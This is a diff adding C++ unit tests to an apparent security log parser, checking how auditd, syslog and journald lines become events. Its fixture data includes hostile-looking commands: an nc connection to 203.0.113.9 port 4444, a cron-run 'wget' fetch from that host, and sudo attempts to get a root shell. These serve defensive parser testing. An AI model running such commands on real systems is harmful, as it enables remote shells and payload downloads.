@@ -123,6 +123,62 @@ TEST(Auditd, KnowsSystemCallsByArchitecture) {
     EXPECT_EQ(syscall_name("nonsense", 59), "");
 }
 
+TEST(Auditd, ReadsWhatAusearchShowsToPeople) {
+    const auto events = read(
+        InputFormat::Auditd,
+        {"----",
+         R"(type=PROCTITLE msg=audit(05/30/2019 10:30:01.123:456) : proctitle=sh -c id uid=0 | tee /tmp/a b )",
+         R"(type=CWD msg=audit(05/30/2019 10:30:01.123:456) : cwd=/tmp/my dir )",
+         R"(type=EXECVE msg=audit(05/30/2019 10:30:01.123:456) : argc=3 a0=sh a1=-c a2=id uid=0 a9=x | tee /tmp/a b )",
+         R"(type=SYSCALL msg=audit(05/30/2019 10:30:01.123:456) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55 ppid=100 pid=101 auid=pi uid=root comm=sh exe=/bin/dash key=(null) )",
+         "----",
+         R"(type=SYSCALL msg=audit(30.05.2019 10:30:02.123:457) : arch=aarch64 syscall=connect success=yes pid=102 uid=pi exe=/usr/bin/nc)",
+         R"(type=SOCKADDR msg=audit(30.05.2019 10:30:02.123:457) : saddr={ saddr_fam=inet laddr=203.0.113.9 lport=4444 } )",
+         R"(type=PROCTITLE msg=audit(30.05.2019 10:30:02.123:457) : proctitle=nc 203.0.113.9 4444)"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(to_iso8601(events[0].time, 3), "2019-05-30T10:30:01.123Z");
+    EXPECT_EQ(events[0].payload()["CommandLine"], "sh -c id uid=0 a9=x | tee /tmp/a b");
+    EXPECT_EQ(events[0].payload()["Executable"], "/bin/dash");
+    EXPECT_EQ(events[0].payload()["UserId"], "0");
+    EXPECT_EQ(events[0].payload()["UserName"], "root");
+    EXPECT_EQ(events[0].payload()["ExtraDetails"]["WorkingDirectory"], "/tmp/my dir");
+    EXPECT_EQ(events[1].payload()["RemoteAddress"], "203.0.113.9");
+    EXPECT_EQ(events[1].payload()["RemotePort"], "4444");
+}
+
+TEST(Auditd, ReadsTheKernelsOwnLogAndTheJournals) {
+    const auto events = read(
+        InputFormat::Syslog,
+        {R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1300 audit(1604996384.965:937): arch=c000003e syscall=59 success=yes ppid=7 pid=8 uid=0 exe="/bin/sh")",
+         R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1309 audit(1604996384.965:937): argc=2 a0="sh" a1=2F746D702F782079)",
+         R"(Nov 10 08:19:44 gw1 kernel: [ 12.345] audit: type=1327 audit(1604996384.965:937): proctitle=7368)",
+         R"(Nov 10 08:19:45 gw2 audit[812]: SYSCALL arch=c000003e syscall=59 success=yes ppid=7 pid=812 uid=0 exe="/bin/ls")",
+         R"(Nov 10 08:19:45 gw2 audit: EXECVE argc=2 a0="ls" a1="/tmp")",
+         R"(Nov 10 08:19:45 gw2 audit: PROCTITLE proctitle="ls")",
+         R"({"__REALTIME_TIMESTAMP":"1704164646123456","_HOSTNAME":"gw3","SYSLOG_IDENTIFIER":"audit","_AUDIT_ID":"55","MESSAGE":"EXECVE argc=1 a0=\"/bin/id\""})"});
+    ASSERT_EQ(events.size(), 3u);
+    EXPECT_EQ(events[0].device, "gw1");
+    EXPECT_EQ(events[0].payload()["CommandLine"], "sh /tmp/x y");
+    EXPECT_EQ(events[1].device, "gw2");
+    EXPECT_EQ(events[1].payload()["CommandLine"], "ls /tmp");
+    EXPECT_EQ(events[2].device, "gw3");
+    EXPECT_EQ(events[2].payload()["Executable"], "/bin/id");
+}
+
+TEST(Auditd, TakesSudosWordUntilItSeesPrograms) {
+    const std::string said =
+        R"(type=USER_CMD msg=audit(1.000:1): pid=1 uid=1000 msg='cwd="/home/pi" cmd=6964202D75 terminal=pts/0 res=success')";
+    const auto alone = read(InputFormat::Auditd, {said});
+    ASSERT_EQ(alone.size(), 1u);
+    EXPECT_EQ(alone[0].payload()["CommandLine"], "id -u");
+    EXPECT_EQ(alone[0].payload()["ExtraDetails"]["ParentExecutable"], "/usr/bin/sudo");
+    EXPECT_EQ(read(InputFormat::Auditd,
+                   {R"(type=EXECVE msg=audit(0.500:0): argc=1 a0="ls")", said,
+                    R"(type=USER_CMD msg=audit(1.000:2): pid=1 uid=1000 msg='cmd="id" res=failed')"})
+                  .size(),
+              1u);
+}
+
 TEST(Syslog, ReadsEveryFormOfLine) {
     const auto old = parse_syslog_line("Mar  7 13:06:56 ip-10-77 sshd[1291]: Server listening", 2017);
     ASSERT_TRUE(old);
@@ -299,6 +355,56 @@ TEST(Input, TurnsBytesThatAreNoTextIntoReplacements) {
              {"Mar 27 13:06:56 h sshd[1]: Failed password for r\xFFt from 203.0.113.9 port 1 ssh2"});
     ASSERT_EQ(events.size(), 1u);
     EXPECT_EQ(events[0].payload()["UserName"], "r\xEF\xBF\xBDt");
+}
+
+TEST(Syslog, ReadsWhatJournalctlAndLogreadPrint) {
+    const auto time_of = [](std::string_view line) {
+        const auto read = parse_syslog_line(line, 2026);
+        return read ? to_iso8601(read->time, 3) + " " + read->host + " " + read->program : "no line";
+    };
+    EXPECT_EQ(time_of("Tue Jan  2 03:04:05 2024 authpriv.info dropbear[1]: x"),
+              "2024-01-02T03:04:05.000Z  dropbear");
+    EXPECT_EQ(time_of("Tue 2024-01-02 03:04:05 CET pi sshd[1]: x"), "2024-01-02T03:04:05.000Z pi sshd");
+    EXPECT_EQ(time_of("2024-01-02T03:04:05+0100 pi sshd[1]: x"), "2024-01-02T02:04:05.000Z pi sshd");
+    EXPECT_EQ(time_of("1704164645.123456 pi sshd[1]: x"), "2024-01-02T03:04:05.123Z pi sshd");
+    EXPECT_EQ(time_of("Jan 02 03:04:05.123456 pi sshd[1]: x"), "2026-01-02T03:04:05.123Z pi sshd");
+    EXPECT_EQ(time_of("Tue the 2nd"), "no line");
+    EXPECT_EQ(time_of("1704164645.1 pi sshd[1]: x"), "no line");
+}
+
+TEST(Syslog, CountsWhatWasRepeatedAndKnowsMoreDaemons) {
+    const auto events = read(
+        InputFormat::Syslog,
+        {"Jan  2 03:04:05 pi sshd[1]: error: PAM: Authentication failure for illegal user eve from "
+         "203.0.113.9",
+         "Jan  2 03:04:06 pi last message repeated 2 times", "Jan  2 03:04:07 pi kernel: nothing",
+         "Jan  2 03:04:08 pi last message repeated 2 times",
+         "Jan  2 03:04:09 pi pure-ftpd: (?@203.0.113.9) [WARNING] Authentication failed for user [admin]",
+         "Jan  2 03:04:09 pi proftpd[12]: pi (203.0.113.9[203.0.113.9]) - USER root (Login failed): "
+         "Incorrect password",
+         "Jan  2 03:04:10 pi uhttpd[1]: [info] luci: accepted login on / for root from 203.0.113.9",
+         R"({"__REALTIME_TIMESTAMP":"1767323051000000","_HOSTNAME":"pi","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":"Failed password for root from 203.0.113.9 port 4 ssh2"})"});
+    ASSERT_EQ(events.size(), 7u);
+    EXPECT_EQ(events[0].payload()["UserName"], "eve");
+    EXPECT_EQ(events[2].line, 2u);
+    EXPECT_EQ(events[3].payload()["UserName"], "admin");
+    EXPECT_EQ(events[4].payload()["UserName"], "root");
+    EXPECT_EQ(events[5].payload()["Result"], "Success");
+    EXPECT_EQ(events[6].payload()["RemotePort"], "4");
+}
+
+TEST(Syslog, RunsNothingThatSudoRefused) {
+    const auto events =
+        read(InputFormat::Syslog,
+             {"Jan  2 03:04:07 pi sudo[3]:  pi : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; "
+              "USER=root ; COMMAND=/bin/sh",
+              "Jan  2 03:04:07 pi sudo[3]:  pi : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; "
+              "COMMAND=/bin/sh",
+              "Jan  2 03:04:08 pi sudo[3]:  root : PWD=/ ; USER=root ; COMMAND=/bin/ls",
+              "Jan  2 03:04:09 pi crond[9]: USER root pid 10 cmd wget -q http://203.0.113.9/x"});
+    ASSERT_EQ(events.size(), 2u);
+    EXPECT_EQ(events[0].payload()["CommandLine"], "/bin/ls");
+    EXPECT_EQ(events[1].payload()["CommandLine"], "wget -q http://203.0.113.9/x");
 }
 
 }  // namespace
